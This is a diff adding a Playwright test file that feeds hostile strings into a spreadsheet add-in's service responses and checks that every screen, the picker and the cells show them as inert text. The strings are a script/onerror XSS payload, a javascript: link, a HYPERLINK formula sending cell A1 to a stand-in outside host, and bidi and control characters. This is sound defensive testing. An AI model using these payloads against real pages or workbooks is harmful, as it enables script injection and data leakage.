@@ -1,0 +1,78 @@
+import type { Browser, BrowserContext, Frame } from 'playwright-core';
+import { axeFindings } from '../support/axe-findings';
+import { launchChromium } from '../support/chromium';
+import { type WorkbenchPage, openWorkbench } from '../support/workbench-page';
+
+const hostile = [
+  '<img src=x onerror="top.hacked=1"><script>top.hacked=1</script>',
+  '=HYPERLINK("https://other.example/"&A1,"NORTHGATE")',
+  '\u202Eeman esrever\u202C "quoted" \u2066isolated',
+  'bell \u0007 escape \u001b[31m zero width \u200b\u200d',
+  'W'.repeat(10_000),
+  'javascript:top.hacked=1',
+];
+
+let browser: Browser;
+let workbench: WorkbenchPage;
+let pane: Frame;
+
+/** Between the add-in and the service: every name and description is replaced by one of those. */
+async function lie(context: BrowserContext): Promise<void> {
+  let given = 0;
+  await context.route('**/v2/odata/**', async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace(
+      /"(Name|ShortName|Description)":"(?:[^"\\]|\\.)*"/g,
+      (_all, field) => `"${field}":${JSON.stringify(hostile[given++ % hostile.length])}`,
+    );
+    await route.fulfill({ response, body });
+  });
+}
+
+beforeAll(async () => {
+  browser = await launchChromium();
+  workbench = await openWorkbench(browser, { query: '?pane=320', prepare: lie });
+  pane = await workbench.connect();
+});
+afterAll(() => browser.close());
+
+/** Whether anything of the names was run or became part of the page, and what is wider than the pane. */
+async function harm(): Promise<unknown> {
+  const hacked = await workbench.page.evaluate('window.hacked');
+  const inPage = await pane.evaluate(() => ({
+    elements: document.querySelectorAll('img[src=x], body script, a[href^="javascript:"]').length,
+    wide: document.documentElement.scrollWidth > document.documentElement.clientWidth,
+  }));
+  return { hacked, ...inPage };
+}
+const none = { hacked: undefined, elements: 0, wide: false };
+
+test.each([
+  ['Home', /^Process date/],
+  ['Build', /^(Preview|Preview of the first rows)$/],
+  ['Workbook', /^This workbook$/],
+  ['Morning', /^Custodians$/],
+  ['Settings', /^Service$/],
+])('%s shows hostile names as texts, within the pane', async (screen, shown) => {
+  await pane.getByRole('tab', { name: screen }).click();
+  await pane.getByText(shown).first().waitFor();
+  expect(await harm()).toEqual(none);
+  expect(await axeFindings(pane)).toEqual([]);
+  await workbench.picture(`hostile-${screen.toLowerCase()}`);
+});
+
+test('the picker of custodians shows them as texts', async () => {
+  await pane.getByRole('tab', { name: 'Build' }).click();
+  await pane.getByRole('combobox', { name: 'Custodian', exact: true }).click();
+  await pane.getByRole('option').first().waitFor();
+  expect((await pane.getByRole('option').allInnerTexts()).join(' ')).toContain('<img src=x');
+  expect(await harm()).toEqual(none);
+});
+
+test('cells hold them as texts: nothing is calculated', async () => {
+  const { values } = await workbench.calculate('A1', '=IDS.CUSTODIANS()', 'A1:C6');
+  const names = values.slice(1).flatMap((row) => row.slice(1));
+  expect(new Set(names).size).toBeGreaterThan(3);
+  expect(names.filter((name) => !hostile.includes(String(name)))).toEqual([]);
+  expect(await harm()).toEqual(none);
+});
